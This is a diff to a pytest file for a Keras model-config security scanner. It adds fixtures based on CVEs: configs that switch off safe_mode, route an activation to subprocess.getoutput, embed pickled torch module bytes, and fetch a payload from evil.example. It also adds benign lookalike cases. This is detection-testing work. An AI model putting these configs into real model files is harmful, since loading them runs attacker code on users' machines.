@@ -170,13 +170,59 @@ FOREIGN = {
             },
             {"keras.lambda_function"},
         ),
-        (
+        (  # CVE-2025-9906: the config itself switches safe_mode off while it loads
             {
                 "module": "keras.layers",
                 "class_name": "Dense",
-                "config": {"name": "enable_unsafe_deserialization"},
+                "config": {
+                    "name": "d",
+                    "units": 1,
+                    "activation": {
+                        "module": "keras.config",
+                        "class_name": "function",
+                        "config": "enable_unsafe_deserialization",
+                        "registered_name": "function",
+                    },
+                },
             },
-            {"keras.unsafe_deserialization"},
+            {"keras.safe_mode_bypass"},
+        ),
+        (  # CVE-2025-49655: torch.load(weights_only=False) of the config's module bytes
+            {
+                "module": "keras.layers",
+                "class_name": "TorchModuleWrapper",
+                "config": {"name": "torch_module_wrapper", "module": "UEsDBAAACAgAAAAAAAAAAAAAAAAAAAAAAAAQ"},
+                "registered_name": "TorchModuleWrapper",
+            },
+            {"keras.torch_module_wrapper"},
+        ),
+        (  # CVE-2025-1550: a Lambda naming a module outside Keras
+            {
+                "module": "keras.layers",
+                "class_name": "Dense",
+                "config": {
+                    "name": "d",
+                    "activation": {"fn_module": "subprocess", "function": "getoutput"},
+                },
+            },
+            {"keras.foreign_module"},
+        ),
+        (  # CVE-2025-8747: get_file called by the config with a URL to fetch
+            {
+                "module": "keras.layers",
+                "class_name": "Dense",
+                "config": {
+                    "name": "d",
+                    "activation": {
+                        "module": "keras.utils",
+                        "class_name": "function",
+                        "config": "get_file",
+                        "registered_name": "function",
+                    },
+                    "kernel_initializer": {"origin": "https://evil.example/payload.h5", "fname": "x"},
+                },
+            },
+            {"keras.get_file_download", "keras.remote_reference"},
         ),
         (
             {
@@ -184,10 +230,6 @@ FOREIGN = {
                 "class_name": "TextVectorization",
                 "config": {"name": "t", "vocabulary": "https://evil.example/vocab.txt"},
             },
-            {"keras.remote_reference"},
-        ),
-        (
-            {"module": "keras.utils", "class_name": "X", "config": {"origin": "keras.utils.get_file"}},
             {"keras.remote_reference"},
         ),
         (
@@ -220,6 +262,35 @@ def test_malicious_layers(layer: dict[str, Any], checks: set[str]) -> None:
     report = keras.parse_config(_sequential_with(layer))
     assert _checks(report) == checks, [f.to_json() for f in report.findings]
     assert {f.code for f in report.findings} == {"unsafe_layer"}
+
+
+@pytest.mark.parametrize(
+    "layer",
+    [
+        {  # tf.keras writes its own module path
+            "module": "tensorflow.keras.layers",
+            "class_name": "Dense",
+            "config": {"name": "d", "units": 2},
+            "registered_name": None,
+        },
+        {  # get_file named, nothing to fetch
+            "module": "keras.layers",
+            "class_name": "Dense",
+            "config": {"name": "d", "description": "weights come from keras.utils.get_file"},
+        },
+        {  # a plain-text mention of the switch is not a call
+            "module": "keras.layers",
+            "class_name": "Dense",
+            "config": {
+                "name": "enable_unsafe_deserialization",
+                "doc": "never call enable_unsafe_deserialization",
+            },
+        },
+    ],
+)
+def test_benign_lookalikes_raise_nothing(layer: dict[str, Any]) -> None:
+    report = keras.parse_config(_sequential_with(layer))
+    assert report.findings == [], [f.to_json() for f in report.findings]
 
 
 def test_keras_family_modules_are_trusted() -> None:
